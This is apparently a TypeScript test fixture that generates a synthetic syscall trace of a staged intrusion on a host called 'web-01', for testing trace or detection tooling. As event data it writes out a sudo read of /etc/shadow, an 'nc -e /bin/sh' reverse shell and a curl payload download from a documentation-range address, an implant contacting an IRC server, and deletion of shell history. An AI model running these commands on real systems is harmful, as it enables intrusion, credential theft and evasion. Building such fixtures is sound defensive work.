/**
 * A small synthetic incident on host "web-01", built from the event model: an attacker with
 * alice's SSH session reads /etc/shadow via sudo, opens a reverse shell with `nc -e /bin/sh`,
 * drops a binary below /usr/bin with curl, runs it, it connects out to an IRC server, and the
 * shell history is wiped. Fixed times and pids, so tests can assert exact values; the README's
 * demo trace is a real capture of the same storyline (fixtures/record-demo.sh).
 */
import { join } from 'node:path';
import { isRecordType, RECORD_TYPES } from '../../src/trace/columns.js';
import type { TraceEvent } from '../../src/trace/event.js';
import { PPM_CL, PPM_O } from '../../src/trace/flags.js';
import { createTraceWriter } from '../../src/trace/writer.js';

const T0 = 1_795_230_847_000_000_000n; // 2026-11-21T03:14:07Z
const AT_FDCWD = -100n;
const ENOENT = -2n;
// What glibc's fork() passes to clone.
const FORK_FLAGS = PPM_CL.CLONE_CHILD_CLEARTID | PPM_CL.CLONE_CHILD_SETTID;

interface Proc {
  pid: number;
  ppid: number;
  comm: string;
  exe: string;
  exepath: string;
  args: string[];
  uid: number;
  gid: number;
  loginuid: number;
  cwd: string;
  tty: number;
  pgid: number;
  sid: number;
}

const events: TraceEvent[] = [];
let clock = T0;
let num = 0n;

function emit(fields: Omit<TraceEvent, 'ts' | 'num'>, advanceUs = 150): void {
  clock += BigInt(advanceUs) * 1000n;
  num++;
  events.push({ ts: clock, num, ...fields } as TraceEvent);
}

/** The header columns every syscall of `p` carries. */
function by(p: Proc, cpu = 0) {
  return {
    dir: '<',
    cpu,
    tid: p.pid,
    pid: p.pid,
    ppid: p.ppid,
    vtid: p.pid,
    vpid: p.pid,
    uid: p.uid,
    gid: p.gid,
    euid: p.uid,
    egid: p.gid,
    loginuid: p.loginuid,
    comm: p.comm,
  };
}

function processColumns(p: Proc) {
  return { exe: p.exe, exepath: p.exepath, args: p.args, cwd: p.cwd, tty: p.tty, pgid: p.pgid, sid: p.sid, cgroup: '/user.slice/user-1000.slice/session-4.scope' };
}

const FULL_CAPS = 0x1ff_ffff_ffffn;

function snapshotProc(p: Proc, startOffsetS: number): void {
  emit(
    {
      type: RECORD_TYPES.snapshotProc,
      ...by(p),
      dir: null,
      ...processColumns(p),
      cap_permitted: p.uid === 0 ? FULL_CAPS : 0n,
      cap_effective: p.uid === 0 ? FULL_CAPS : 0n,
      cap_inheritable: 0n,
      start_ts: T0 - BigInt(startOffsetS) * 1_000_000_000n,
    },
    1,
  );
}

/** fork + execve of a child of `parent`: the clone seen by the parent and the child, then execve. */
function spawn(parent: Proc, child: Omit<Proc, 'ppid' | 'cwd' | 'tty' | 'pgid' | 'sid' | 'loginuid'>, cpu = 0): Proc {
  const p: Proc = { ...child, ppid: parent.pid, cwd: parent.cwd, tty: parent.tty, pgid: child.pid, sid: parent.sid, loginuid: parent.loginuid };
  emit({ type: 'clone', ...by(parent, cpu), res: BigInt(p.pid), flags: FORK_FLAGS, ...processColumns(parent) });
  const forked = { ...parent, pid: p.pid, ppid: parent.pid };
  emit({ type: 'clone', ...by(forked, 1), res: 0n, flags: FORK_FLAGS, ...processColumns(parent) }, 40);
  emit({ type: 'execve', ...by(forked, 1), comm: p.comm, uid: p.uid, euid: p.uid, res: 0n, path: p.exepath, ...processColumns(p), cap_permitted: p.uid === 0 ? FULL_CAPS : 0n, cap_effective: p.uid === 0 ? FULL_CAPS : 0n, cap_inheritable: 0n, exe_flags: 0 }, 900);
  return p;
}

function exit(p: Proc, code = 0): void {
  emit({ type: 'exit_group', ...by(p), id: BigInt(code) }, 300);
}

function openat(p: Proc, path: string, flags: number, res: bigint, mode = 0): void {
  emit({ type: 'openat', ...by(p), dirfd: AT_FDCWD, path, flags, mode, res, fd_type: res >= 0n ? 'file' : null, dev: res >= 0n ? 2049 : null, ino: res >= 0n ? 1_048_577n + BigInt(path.length) : null });
}

function readWrite(p: Proc, type: 'read' | 'write', fd: number, data: string): void {
  const bytes = new TextEncoder().encode(data);
  emit({ type, ...by(p), fd: BigInt(fd), size: BigInt(bytes.length), res: BigInt(bytes.length), buffer: bytes.slice(0, 80) });
}

function close(p: Proc, fd: number): void {
  emit({ type: 'close', ...by(p), fd: BigInt(fd), res: 0n }, 20);
}

function connectTcp(p: Proc, fd: number, local: [string, number], remote: [string, number]): void {
  emit({ type: 'socket', ...by(p), sock_family: 2, sock_type: 1, l4proto: 6, res: BigInt(fd), fd_type: 'ipv4' });
  emit({ type: 'connect', ...by(p), fd: BigInt(fd), res: 0n, fd_type: 'ipv4', sock_family: 2, l4proto: 6, sip: local[0], sport: local[1], dip: remote[0], dport: remote[1] }, 35_000);
}

// --- the machine as the capture found it -----------------------------------------------------
emit({ type: RECORD_TYPES.snapshotMachine, cpu: -1, name: 'web-01', extra: { kernel: '6.1.0-27-amd64', cpus: '2', memory_bytes: '4110385152', boot_time_ns: String(T0 - 86_400_000_000_000n) } }, 0);
const systemd: Proc = { pid: 1, ppid: 0, comm: 'systemd', exe: '/sbin/init', exepath: '/usr/lib/systemd/systemd', args: [], uid: 0, gid: 0, loginuid: -1, cwd: '/', tty: 0, pgid: 1, sid: 1 };
const sshd: Proc = { pid: 612, ppid: 1, comm: 'sshd', exe: 'sshd:', exepath: '/usr/sbin/sshd', args: ['-D'], uid: 0, gid: 0, loginuid: -1, cwd: '/', tty: 0, pgid: 612, sid: 612 };
const session: Proc = { pid: 2231, ppid: 612, comm: 'sshd', exe: 'sshd:', exepath: '/usr/sbin/sshd', args: ['alice@pts/0'], uid: 1000, gid: 1000, loginuid: 1000, cwd: '/', tty: 0, pgid: 2231, sid: 2231 };
const bash: Proc = { pid: 2240, ppid: 2231, comm: 'bash', exe: '-bash', exepath: '/usr/bin/bash', args: [], uid: 1000, gid: 1000, loginuid: 1000, cwd: '/home/alice', tty: 34816, pgid: 2240, sid: 2240 };
const nginx: Proc = { pid: 845, ppid: 1, comm: 'nginx', exe: 'nginx:', exepath: '/usr/sbin/nginx', args: ['-g', 'daemon on; master_process on;'], uid: 0, gid: 0, loginuid: -1, cwd: '/', tty: 0, pgid: 845, sid: 845 };
snapshotProc(systemd, 86_400);
snapshotProc(sshd, 86_390);
snapshotProc(nginx, 86_380);
snapshotProc(session, 620);
snapshotProc(bash, 618);
for (const fd of [0, 1, 2]) {
  emit({ type: RECORD_TYPES.snapshotFd, pid: bash.pid, tid: bash.pid, fd: BigInt(fd), fd_type: 'file', path: '/dev/pts/0', flags: PPM_O.RDWR }, 1);
}
emit({ type: RECORD_TYPES.snapshotFd, pid: sshd.pid, tid: sshd.pid, fd: 3n, fd_type: 'ipv4', sock_family: 2, l4proto: 6, sip: '0.0.0.0', sport: 0, dip: '0.0.0.0', dport: 22 }, 1);
emit({ type: RECORD_TYPES.snapshotFd, pid: session.pid, tid: session.pid, fd: 4n, fd_type: 'ipv4', sock_family: 2, l4proto: 6, sip: '203.0.113.7', sport: 51514, dip: '10.0.0.5', dport: 22 }, 1);
for (const [uid, gid, name, home, shell] of [
  [0, 0, 'root', '/root', '/bin/bash'],
  [33, 33, 'www-data', '/var/www', '/usr/sbin/nologin'],
  [1000, 1000, 'alice', '/home/alice', '/bin/bash'],
] as const) {
  emit({ type: RECORD_TYPES.snapshotUser, uid, gid, name, path: home, path2: shell }, 1);
}
for (const [gid, name] of [[0, 'root'], [27, 'sudo'], [33, 'www-data'], [1000, 'alice']] as const) {
  emit({ type: RECORD_TYPES.snapshotGroup, gid, name }, 1);
}
emit({ type: RECORD_TYPES.snapshotEnd, cpu: -1 }, 1);

// --- 1. read /etc/shadow through sudo ----------------------------------------------------------
const sudo = spawn(bash, { pid: 2301, comm: 'sudo', exe: 'sudo', exepath: '/usr/bin/sudo', args: ['cat', '/etc/shadow'], uid: 1000, gid: 1000 });
openat(sudo, '/etc/sudoers', PPM_O.RDONLY | PPM_O.CLOEXEC, 3n);
readWrite(sudo, 'read', 3, 'root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n');
close(sudo, 3);
emit({ type: 'setresuid', ...by(sudo), id: 0n, id2: 0n, id3: 0n, res: 0n });
const rootSudo = { ...sudo, uid: 0, gid: 0 };
const cat = spawn(rootSudo, { pid: 2302, comm: 'cat', exe: 'cat', exepath: '/usr/bin/cat', args: ['/etc/shadow'], uid: 0, gid: 0 });
openat(cat, '/etc/shadow', PPM_O.RDONLY, 3n);
readWrite(cat, 'read', 3, 'root:$y$j9T$Zq1…:19700:0:99999:7:::\nalice:$y$j9T$8kd…:19700:0:99999:7:::\n');
readWrite(cat, 'write', 1, 'root:$y$j9T$Zq1…:19700:0:99999:7:::\n');
close(cat, 3);
exit(cat);
exit(rootSudo);

// --- 2. reverse shell with netcat --------------------------------------------------------------
const nc = spawn(bash, { pid: 2310, comm: 'nc', exe: 'nc', exepath: '/usr/bin/nc.traditional', args: ['-e', '/bin/sh', '203.0.113.50', '4444'], uid: 1000, gid: 1000 });
connectTcp(nc, 3, ['10.0.0.5', 40112], ['203.0.113.50', 4444]);
for (const fd of [0, 1, 2]) emit({ type: 'dup2', ...by(nc), fd: 3n, fd2: BigInt(fd), res: BigInt(fd) }, 10);
emit({ type: 'execve', ...by(nc), comm: 'sh', res: 0n, path: '/bin/sh', ...processColumns({ ...nc, exe: '/bin/sh', exepath: '/usr/bin/dash', args: [] }), exe_flags: 0 }, 500);
const sh: Proc = { ...nc, comm: 'sh', exe: '/bin/sh', exepath: '/usr/bin/dash', args: [] };

// --- 3. drop a binary below /usr/bin ----------------------------------------------------------
openat(sh, '/usr/bin/kworkerd', PPM_O.WRONLY | PPM_O.CREAT | PPM_O.TRUNC, -13n /* EACCES: alice cannot */, 0o755);
const curl = spawn(sh, { pid: 2320, comm: 'curl', exe: 'curl', exepath: '/usr/bin/curl', args: ['-so', '/tmp/.x', 'http://203.0.113.50/x'], uid: 1000, gid: 1000 });
connectTcp(curl, 5, ['10.0.0.5', 40114], ['203.0.113.50', 80]);
openat(curl, '/tmp/.x', PPM_O.WRONLY | PPM_O.CREAT | PPM_O.TRUNC, 6n, 0o666);
readWrite(curl, 'write', 6, '\u007fELF\u0002\u0001\u0001\u0000');
close(curl, 6);
exit(curl);
const sudo2 = spawn(sh, { pid: 2325, comm: 'sudo', exe: 'sudo', exepath: '/usr/bin/sudo', args: ['install', '-m', '755', '/tmp/.x', '/usr/bin/kworkerd'], uid: 1000, gid: 1000 });
emit({ type: 'setresuid', ...by(sudo2), id: 0n, id2: 0n, id3: 0n, res: 0n });
const install = spawn({ ...sudo2, uid: 0, gid: 0 }, { pid: 2326, comm: 'install', exe: 'install', exepath: '/usr/bin/install', args: ['-m', '755', '/tmp/.x', '/usr/bin/kworkerd'], uid: 0, gid: 0 });
openat(install, '/tmp/.x', PPM_O.RDONLY, 3n);
openat(install, '/usr/bin/kworkerd', PPM_O.WRONLY | PPM_O.CREAT | PPM_O.EXCL, 4n, 0o600);
readWrite(install, 'write', 4, '\u007fELF\u0002\u0001\u0001\u0000');
emit({ type: 'fchmod', ...by(install), fd: 4n, mode: 0o755, res: 0n });
close(install, 4);
close(install, 3);
exit(install);
exit({ ...sudo2, uid: 0, gid: 0 });

// --- 4. run it; it calls home -----------------------------------------------------------------
const implant = spawn(sh, { pid: 2330, comm: 'kworkerd', exe: 'kworkerd', exepath: '/usr/bin/kworkerd', args: [], uid: 1000, gid: 1000 });
openat(implant, '/etc/ld.so.preload', PPM_O.RDONLY | PPM_O.CLOEXEC, ENOENT);
connectTcp(implant, 3, ['10.0.0.5', 51902], ['198.51.100.23', 6667]);
readWrite(implant, 'write', 3, 'NICK web01\r\nUSER x 0 * :x\r\nJOIN #ops\r\n');

// --- 5. cover the tracks ----------------------------------------------------------------------
const rm = spawn(sh, { pid: 2340, comm: 'rm', exe: 'rm', exepath: '/usr/bin/rm', args: ['-f', '/home/alice/.bash_history'], uid: 1000, gid: 1000 });
emit({ type: 'unlinkat', ...by(rm), dirfd: AT_FDCWD, path: '/home/alice/.bash_history', flags: 0, res: 0n });
exit(rm);

// --- meanwhile, the web server keeps serving ---------------------------------------------------
for (let i = 0; i < 6; i++) {
  emit({ type: 'accept4', ...by(nginx, 1), fd: 6n, res: BigInt(10 + i), fd_type: 'ipv4', sock_family: 2, l4proto: 6, sip: `198.18.0.${10 + i}`, sport: 50000 + i, dip: '10.0.0.5', dport: 80 }, 2_000);
  openat(nginx, '/var/www/html/index.html', PPM_O.RDONLY | PPM_O.NONBLOCK, 11n + BigInt(i));
  close(nginx, 11 + i);
  close(nginx, 10 + i);
}

const syscalls = events.filter((e) => !isRecordType(e.type)).length;
emit({ type: RECORD_TYPES.captureStats, cpu: -1, n_events: BigInt(syscalls), n_drops: 0n }, 1);

/** Writes the incident to `dir/incident.arrow` and returns its path. */
export function writeIncident(dir: string): string {
  const out = join(dir, 'incident.arrow');
  const writer = createTraceWriter(
    out,
    {
      source: 'test:synthetic-incident',
      host: 'web-01',
      kernel: '6.1.0-27-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.115-1',
      bootTimeNs: T0 - 86_400_000_000_000n,
      createdAt: '2026-11-21T03:14:07.000Z',
      capture: { events: 'default', note: 'synthetic incident built from the event model' },
    },
    { overwrite: true },
  );
  for (const e of events) writer.append(e);
  writer.close();
  return out;
}

export const INCIDENT_EVENTS: readonly TraceEvent[] = events;
